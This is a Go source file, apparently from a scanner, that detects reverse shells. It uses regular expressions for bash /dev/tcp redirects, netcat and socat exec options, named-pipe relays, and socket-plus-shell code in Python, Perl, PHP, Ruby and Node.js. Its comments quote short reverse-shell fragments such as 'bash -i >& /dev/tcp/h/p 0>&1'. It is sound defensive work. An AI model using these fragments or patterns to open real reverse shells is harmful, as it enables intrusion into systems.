package backdoor

import (
	"bytes"
	"regexp"
)

// The reverse-shell rules need the part that hands a shell to the network,
// not only a socket: bash scripts open /dev/tcp for health checks, and nc,
// socat and socket APIs have ordinary uses.
var (
	// shellRedirect is a shell whose input or output is redirected to a
	// descriptor or to a /dev/tcp path: "bash -i >& /dev/tcp/h/p 0>&1",
	// "sh <&196 >&196", "/bin/sh 0</dev/tcp/h/p".
	shellRedirect = regexp.MustCompile(`(?:^|[\s;&|('"` + "`" + `/])(?:ba|z|k|da|a|tc|c)?sh(?:\s+-[a-zA-Z]+)*\s*[0-9]*(?:<>|>&|<&|&>|>|<)\s*(?:[0-9]+\b|/dev/(?:tcp|udp)/)`)
	// evalLoop runs every line read from the socket: "while read l; do $l".
	evalLoop = regexp.MustCompile(`\bdo\s+\$\{?[A-Za-z_]\w*\}?(?:\s|;|$)`)
	// netcatExec is nc, ncat or netcat told to run a shell for its peer.
	netcatExec = regexp.MustCompile(`(?:^|[\s;&|/'"])(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?:\s[^\n;|&]*?)?\s(?:-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)[=\s]\s*['"]?(?:\S*/)?(?:ba|z|k|da|a|tc)?sh\b`)
	// netClient is a program that carries a shell over the network when
	// piped through a named pipe.
	netClient = regexp.MustCompile(`(?:^|[\s;&|/])(?:nc|ncat|netcat|telnet|socat)\s|openssl\s+s_client`)
	// shellWord is a shell started as a command, optionally interactive.
	shellWord = regexp.MustCompile(`(?:^|[\s;&|('"/])(?:ba|z|k|da|a|tc)?sh(?:\s+-[a-zA-Z]+)*(?:\s|$|['";|&)])`)
	// pipeToShell is output piped into a shell.
	pipeToShell = regexp.MustCompile(`\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?(?:ba|z|k|da|a|tc)?sh\b`)
	// socatExec is socat linking a program to the network.
	socatExec    = regexp.MustCompile(`(?i)\b(?:exec|system):`)
	socatNetwork = regexp.MustCompile(`(?i)\b(?:tcp|udp|ssl|openssl)[46]?(?:-connect|-listen)?:`)
	// shellPath names a shell inside a program's string literals.
	shellPath = regexp.MustCompile(`/bin/(?:ba|z|k|da|a)?sh\b|["'](?:ba|z|da|a)?sh(?:\s+-i)?["']|\bsh -i\b|cmd\.exe`)
)

// socketRule recognises a reverse shell written in a script language: every
// one of its patterns must occur near the socket call.
type socketRule struct {
	lang string
	all  []*regexp.Regexp
}

var socketRules = []socketRule{
	{"Python", []*regexp.Regexp{
		regexp.MustCompile(`\.connect\(`),
		regexp.MustCompile(`dup2\(|stdin\s*=\s*\w+\.fileno\(\)`),
		regexp.MustCompile(`pty\.spawn\(|subprocess\.(?:call|Popen|run)\(|os\.exec|os\.system\(`),
		shellPath,
	}},
	{"Perl", []*regexp.Regexp{
		regexp.MustCompile(`socket\(|IO::Socket`),
		regexp.MustCompile(`connect\(|PeerAddr`),
		regexp.MustCompile(`open\(\s*STDIN|fdopen\(|>&`),
		regexp.MustCompile(`\bexec\b|\bsystem\b`),
		shellPath,
	}},
	{"PHP", []*regexp.Regexp{
		regexp.MustCompile(`fsockopen\(`),
		regexp.MustCompile(`\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s*\(`),
		shellPath,
	}},
	{"Ruby", []*regexp.Regexp{
		regexp.MustCompile(`TCPSocket`),
		regexp.MustCompile(`\bexec\b|\bspawn\b|IO\.popen`),
		shellPath,
	}},
	{"Node.js", []*regexp.Regexp{
		regexp.MustCompile(`net\.Socket\(|net\.connect\(|createConnection\(`),
		regexp.MustCompile(`child_process`),
		regexp.MustCompile(`\.pipe\(`),
		shellPath,
	}},
}

// socketWindow is how far around a socket call the other parts of a
// script-language reverse shell are looked for.
const socketWindow = 1 << 10

// reverseShellLine says what reverse shell a line holds, if any.
func reverseShellLine(line []byte, h lineKinds) (string, bool) {
	if h.has(kDevTCP) {
		if bytes.Contains(line, []byte("/inet/tcp/")) && bytes.Contains(line, []byte("getline")) {
			return "awk connects to the network and runs what it reads", true
		}
		if shellRedirect.Match(line) {
			return "a shell is redirected to a /dev/tcp connection", true
		}
		if evalLoop.Match(line) {
			return "commands read from a /dev/tcp connection are run in a loop", true
		}
	}
	if h.has(kNetcat) && netcatExec.Match(line) {
		return "netcat is told to run a shell for its peer", true
	}
	if h.has(kFifo) && netClient.Match(line) && shellWord.Match(line) {
		return "a shell is wired to a network client through a named pipe", true
	}
	if h.has(kTelnet) && bytes.Contains(line, []byte("telnet")) && pipeToShell.Match(line) {
		return "what telnet receives is piped into a shell", true
	}
	if h.has(kSocat) && socatExec.Match(line) && socatNetwork.Match(line) {
		return "socat links a program to a network connection", true
	}
	return "", false
}

// socketShell says which script language's reverse shell a window holds.
func socketShell(w []byte) (string, bool) {
	for _, r := range socketRules {
		ok := true
		for _, re := range r.all {
			if !re.Match(w) {
				ok = false
				break
			}
		}
		if ok {
			return r.lang + " connects a socket and hands it a shell", true
		}
	}
	return "", false
}
